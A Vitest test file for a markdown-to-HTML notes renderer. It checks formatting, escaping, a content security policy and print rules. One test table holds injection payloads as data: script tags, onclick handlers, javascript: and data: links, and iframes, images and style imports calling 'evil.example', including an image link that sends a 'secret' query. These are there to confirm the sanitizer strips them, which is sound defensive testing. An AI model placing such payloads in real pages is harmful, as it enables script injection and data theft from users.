import { describe, expect, it } from 'vitest';
import { renderNotesHtml } from './render-notes.ts';

describe('notes as a page', () => {
  it('keeps headings, tables, code and links', async () => {
    const html = await renderNotesHtml('# Agents\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = "<b>"\n```\n\n<https://example.org/a?b=1&c=2>', false);
    expect(html).toMatch(/^<!doctype html>\n<html lang="en">/);
    expect(html).toContain('<h1>Agents</h1>');
    expect(html).toContain('<td>2</td>');
    expect(html).toContain('x = "&#x3C;b>"');
    expect(html).toContain('href="https://example.org/a?b=1&#x26;c=2"');
  });

  it.each([
    ['a script', '<script>alert(1)</script>'], ['an event handler', '<b onclick="alert(1)">x</b>'], ['a script link', '[x](javascript:alert(1))'], ['a remote picture', '![x](https://evil.example/?q=secret)'],
    ['a picture in HTML', '<img src="https://evil.example/x">'], ['a frame', '<iframe src="https://evil.example"></iframe>'], ['a data link', '[x](data:text/html,<script>alert(1)</script>)'], ['a style', '<style>@import "https://evil.example"</style>'],
  ])('holds nothing that runs or phones home: %s', async (_name, markdown) => {
    const body = (await renderNotesHtml(`Before\n\n${markdown}\n\nAfter`, false)).split('<body>')[1] ?? '';
    expect(body).not.toMatch(/<script|onclick|javascript:|data:|<img|<iframe|<style|evil\.example/i);
    expect(body).toContain('After');
  });

  it('refuses everything from outside by its own policy', async () => {
    expect(await renderNotesHtml('x', false)).toContain("default-src 'none'");
  });

  it('has page rules only when it is for print', async () => {
    expect(await renderNotesHtml('x', true)).toContain('@page');
    expect(await renderNotesHtml('x', false)).not.toContain('@page');
  });
});
